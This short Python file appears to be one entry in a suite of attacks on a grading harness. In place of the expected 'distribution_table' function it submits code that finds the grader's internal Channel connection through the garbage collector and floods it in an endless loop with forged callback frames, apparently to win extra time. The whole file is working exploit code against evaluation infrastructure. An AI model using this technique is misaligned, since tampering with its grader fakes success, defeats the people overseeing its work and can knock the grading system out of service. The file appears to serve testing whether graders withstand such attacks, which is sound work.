"""Send frames without end, each of them asking the grader for something."""

from attack import Attack

ATTACK = Attack(
    gains="time",
    cells={
        "distribution_table": """
def channel():
    import gc
    for value in gc.get_objects():
        if type(value).__name__ == "Channel":
            return value.connection

def distribution_table(logits, temperatures):
    import json, struct
    wire = channel()
    text = json.dumps([1, "callback", ["list", [1, ["list", []]]]]).encode()
    frame = struct.pack("<4sII", b"TKG1", len(text), 0) + text
    while True:
        if wire:
            wire.sendall(frame)
""",
    },
)
